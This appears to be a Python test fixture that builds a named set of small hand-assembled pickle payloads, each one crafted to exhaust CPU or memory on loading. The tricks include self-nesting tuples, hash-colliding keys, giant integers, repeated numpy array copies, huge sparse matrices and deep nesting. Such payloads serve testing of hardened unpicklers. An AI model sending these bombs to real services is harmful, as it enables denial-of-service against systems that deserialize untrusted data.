"""Small pickles that ask for endless work or memory, though nothing in them runs."""

from __future__ import annotations

import struct

_PROTOCOL_4 = b"\x80\x04"


def deep_tuple(depth: int = 60) -> bytes:
    """Leaves a tuple on the stack that holds another twice, which holds another twice, and so on."""
    return b")" + b"2\x86" * depth


def deep_list(depth: int = 60) -> bytes:
    """The same, of lists."""
    steps = [b"]q%c(h%ch%ce" % (n, n - 1, n - 1) for n in range(1, depth)]
    return b"K\x01q\x00" + b"".join(steps)


def _long(value: int) -> bytes:
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def _array(dtype: bytes, count: int, data: bytes) -> bytes:
    """An array of the bytes that ``data`` puts on the stack."""
    made = b"cnumpy._core.numeric\n_frombuffer\n(" + data + b"cnumpy\ndtype\n(U\x02" + dtype + b"tR"
    return made + b"J" + struct.pack("<i", count) + b"\x85U\x01CtR"


def array_again_and_again(times: int, size: int = 1 << 20) -> bytes:
    """Arrays of the same bytes, each of which has to be a copy."""
    first = b"B" + struct.pack("<I", size) + bytes(size) + b"q\x00"
    return b"(" + b"".join(_array(b"b1", size, b"h\x00" if n else first) for n in range(times)) + b"l"


def tall_matrices(times: int) -> bytes:
    """Sparse matrices of millions of rows with nothing in them."""
    none = _array(b"i4", 0, b"C\x00")
    parts = b"U\x03row" + none + b"U\x03col" + none + b"U\x04data" + none
    shape = b"U\x06_shapeJ\xff\xff\xff\x00K\x01\x86"
    return b"(" + (b"cscipy.sparse._coo\ncoo_matrix\n)\x81}(" + shape + parts + b"ub") * times + b"l"


def _bodies() -> dict[str, bytes]:
    keys = b"".join(_long((2**61 - 1) * n) + b"N" for n in range(1, 60_000))
    return {
        "tuple of itself as a key": b"}" + deep_tuple() + b"Ns",
        "tuple of itself in a set": b"cbuiltins\nset\n(" + deep_tuple() + b"l\x85R",
        "tuple of itself in a new set": b"\x8f(" + deep_tuple() + b"\x90",
        "tuple of itself in a frozen set": b"(" + deep_tuple() + b"\x91",
        "number of objects as a key": b"}cnumpy._core.multiarray\nscalar\n(cnumpy\ndtype\n(U\x02O8tR("
        + deep_tuple()
        + b"ltRNs",
        "pairs of an ordered dict": b"ccollections\nOrderedDict\n((" + deep_tuple() + b"N\x86l\x85R",
        "tuple of itself": deep_tuple(),
        "list of itself": deep_list(),
        "list in itself": b"]q\x00h\x00a",
        "keys of one hash": b"}(" + keys + b"u",
        "long number": b"\x8b" + struct.pack("<i", 50_000) + b"\x01" * 50_000,
        "number of many digits": b"L" + b"9" * 4200 + b"L\n",
        "array again and again": array_again_and_again(1100),
        "rows without end": tall_matrices(40),
        "nothing, often": b"(" + b"N" * 2_500_000 + b"t",
        "sets, often": b"(" + b"\x8f" * 2_500_000 + b"t",
        "nested": b"]" * 100_000 + b"a" * 99_999,
        "claim of gigabytes": b"B\xff\xff\xff\xff",
        "line without end": b"I" + b"0" * 1_000_000,
    }


BOMBS = {name: _PROTOCOL_4 + body + b"." for name, body in _bodies().items()}
"""Pickles by what is wrong with them."""
